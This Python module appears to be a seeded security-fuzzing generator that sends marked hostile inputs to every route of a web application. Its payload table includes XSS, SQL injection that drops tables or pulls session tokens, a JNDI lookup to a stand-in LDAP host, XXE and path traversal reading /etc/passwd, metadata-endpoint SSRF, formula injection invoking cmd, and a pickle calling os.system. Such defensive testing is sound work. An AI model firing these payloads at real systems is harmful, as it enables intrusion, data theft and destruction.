"""Hostile inputs by a seed: what attackers put where, at every route that there is."""

import json
import random
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from typing import Any, Final
from urllib.parse import quote

MARK: Final = "zq7731"  # in every payload, so that an echo is found whatever was done to the rest
TEXTS: Final[Mapping[str, str]] = {
    "html": "<script>alert('{m}')</script>",
    "attribute": "\"'><img src=x onerror=alert('{m}')>",
    "svg": "<svg/onload=alert`{m}`>",
    "link": "javascript:alert('{m}')//https://a.b",
    "entity": "&lt;{m}&#x3c;script&gt;",
    "sql": "{m}'; DROP TABLE need; --",
    "sql union": "{m}' UNION SELECT token_hash, csrf_token FROM sign_in_session --",
    "like": "%{m}\\_%[a-z]*",
    "jndi": "${{jndi:ldap://elsewhere.example/{m}}}",
    "template": "{{{{7*7}}}}{{% raw %}}{m}${{7*7}}<%= 7*7 %>#{{7*7}}",
    "format": "%s%s%n%x{m}{{0}}{{0.__class__}}",
    "formula": "=cmd|' /C calc'!A0{m}",
    "formula at": "@SUM(1+1)*cmd|'{m}'",
    "path": "../../../../etc/passwd{m}",
    "windows path": "..\\..\\{m}\\con",
    "url": "http://169.254.169.254/latest/{m}",
    "crlf": "{m}\r\nSet-Cookie: taken=1\r\n\r\n<html>",
    "nul": "{m}\x00.html",
    "controls": "{m}\x01\x07\x08\x0b\x1b[31m\x7f\x85",
    "half": "{m}\ud800",
    "rtl": "\u202e{m}\u202d\u2066\u2069",
    "zero width": "{m}\u200b\u200d\ufeff\u2060",
    "emoji": "{m}👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇬🇧",
    "zalgo": "{m}" + "e" + "\u0301\u0327" * 2_000,
    "ligatures": "{m}" + "\ufdfa\ufb2c" * 300,
    "lookalikes": "{m} ｓｃｒｉｐｔ ﹤script﹥ ‹script›",
    "noncharacters": "{m}\ufffe\uffff\U0010ffff",
    "spaces": "{m}" + " \t" * 20_000 + "x",
    "backtracking": "{m}" + "a" * 50_000 + "!",
    "backtracking address": "{m}@" + "a." * 20_000 + "!",
    "brackets": "{m}" + "([{{" * 10_000,
    "quotes": "{m}" + "\"'`" * 10_000,
    "digits": "{m} " + "943 476 5919 " * 4_000,
    "long": "{m}" + "x" * 200_000,
    "longest": "{m}" + "ü" * 400_000,
    "xml": '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>{m}&b;</a>',
    "json": '{{"{m}": 1}}',
    "pickle": "gASV{m}cos\nsystem\n(S'true'\ntR.",
    "number": "{m}1e400",
}
VALUES: Final[tuple[Any, ...]] = (
    10**30,
    -(2**63) - 1,
    1.5,
    -0.0,
    True,
    None,
    [],
    {},
    [[[[[]]]]],
    {MARK: {MARK: MARK}},
    [MARK] * 500,
    [None] * 1_000,
    {str(number): MARK for number in range(500)},
    "",
    " ",
    [{"kind": MARK}],
    {"$ne": MARK},
    {"__proto__": {"admin": MARK}, "constructor": MARK},
)
RAW: Final[tuple[bytes, ...]] = (
    b"",
    b"\xff\xfe" + MARK.encode(),
    b"[" * 100_000,
    b'{"a":' * 50_000,
    b'{"title": "' + MARK.encode() + b"\xed\xa0\x80\xc0\xaf\xf8" + b'"}',
    b'{"title": NaN, "' + MARK.encode() + b'": -Infinity}',
    b'{"title": ' + b"9" * 100_000 + b"}",
    b'{"title": 1, "title": "' + MARK.encode() + b'"}',
    b'"' + MARK.encode() + b'"',
    b"\x00" * 10_000 + MARK.encode(),
    b"\xef\xbb\xbf{}",
    ('{"' + MARK + '": "\\ud800"}').encode(),
    (MARK + "=1").encode() * 5_000,
)
NAMES: Final = ("q", "after", "limit", "status", "kind", "next", "place", "band", "need_id", "done", "surprise", "side")
HEADERS: Final = ("X-Correlation-ID", "If-Match", "Idempotency-Key", "Accept", "Cookie", "Referer", "X-Forwarded-For", "Accept-Language")
LEAVING: Final = {("POST", "/sign-out"), ("DELETE", "/api/v1/session")}  # who signs out has nothing more to attack
SECRETS: Final = ("Authorization", "X-CSRF-Token", "Origin", "Sec-Fetch-Site", "Content-Type", "Host")


@dataclass(frozen=True)
class Attack:
    """One request: who sends it, what it is, and the payload that must come back from nowhere."""

    asker: str
    method: str
    url: str
    payload: str
    words: str
    headers: dict[str, str | bytes] = field(default_factory=dict)
    content: bytes | None = None


@dataclass(frozen=True)
class Target:
    """A route: its method, its address with names for its variable parts, its fields, and what it would take."""

    method: str
    path: str
    fields: tuple[str, ...] = ()
    sound: Mapping[str, Any] = field(default_factory=dict)
    form: bool = False


def attacks(targets: list[Target], ids: Mapping[str, list[str]], askers: list[str], *, seed: int, count: int) -> Iterator[Attack]:
    """So many requests, the same for a seed; every route is visited equally often."""
    chance = random.Random(seed)  # noqa: S311 -- repeatable is what it is to be
    for number in range(count):
        target = targets[number % len(targets)]
        kind, text = chance.choice(list(TEXTS.items()))
        payload = text.format(m=MARK)
        places = ["path", "query value", "query name", "header", "secret header"]
        if target.method != "GET":
            places += ["field"] * 6 + ["value"] * 3 + ["raw"] * 2
        where = chance.choice(places)
        asker = "anonymous" if (target.method, target.path) in LEAVING else chance.choice(askers)
        aimed_at = {name: chance.choice(there) for name, there in ids.items()}
        yield _made(chance, target, where, payload, aimed_at, asker, f"{kind} in {where}")


def _made(chance: random.Random, target: Target, where: str, payload: str, ids: Mapping[str, str], asker: str, words: str) -> Attack:
    url, headers, content = target.path.format(**ids), {"Accept": "text/html" if chance.random() < 0.5 else "*/*"}, None
    short = quote(payload[:1_000].encode("utf-8", "surrogatepass"))
    if where == "path":
        url = target.path.format(**dict.fromkeys(ids, short)) if "{" in target.path else f"{url}/{short}"
    elif where.startswith("query"):
        url += f"?{chance.choice(NAMES)}={short}" if where == "query value" else f"?{short}=1"
    elif where.endswith("header"):
        headers[chance.choice(HEADERS if where == "header" else SECRETS)] = _as_header(payload)
    if target.method != "GET":
        content = _body(chance, target, where, payload, headers)
    return Attack(asker, target.method, url, payload, f"{words} of {target.method} {target.path}", headers, content)


def _body(chance: random.Random, target: Target, where: str, payload: str, headers: dict[str, str | bytes]) -> bytes:
    if where == "raw":
        headers.setdefault("Content-Type", chance.choice(["application/json", "multipart/form-data; boundary=x", "text/csv"]))
        return chance.choice(RAW)
    said: dict[str, Any] = dict(target.sound)
    if where in {"field", "value"} and target.fields:
        said[chance.choice([*target.fields, MARK])] = payload if where == "field" else chance.choice(VALUES)
    if not target.form:
        headers.setdefault("Content-Type", "application/json")
        return json.dumps(said, ensure_ascii=chance.random() < 0.5).encode("utf-8", "surrogatepass")
    if chance.random() < 0.5:
        headers.setdefault("Content-Type", "application/x-www-form-urlencoded")
        return "&".join(f"{name}={quote(str(value).encode('utf-8', 'surrogatepass'))}" for name, value in said.items()).encode()
    headers.setdefault("Content-Type", "multipart/form-data; boundary=x")
    file = '"; filename="' + payload[:200] if chance.random() < 0.1 else ""
    parts = (f'--x\r\nContent-Disposition: form-data; name="{name}{file}"\r\n\r\n{value}\r\n' for name, value in said.items())
    return ("".join(parts) + "--x--\r\n").encode("utf-8", "surrogatepass")


def _as_header(payload: str) -> bytes:
    """As much of it as HTTP lets into a header, and never a sound correlation id; the rest is for the tests of connections."""
    return "".join(["<", *(sign for sign in payload[:4_000] if sign not in "\r\n\0")]).encode("utf-8", "surrogatepass")
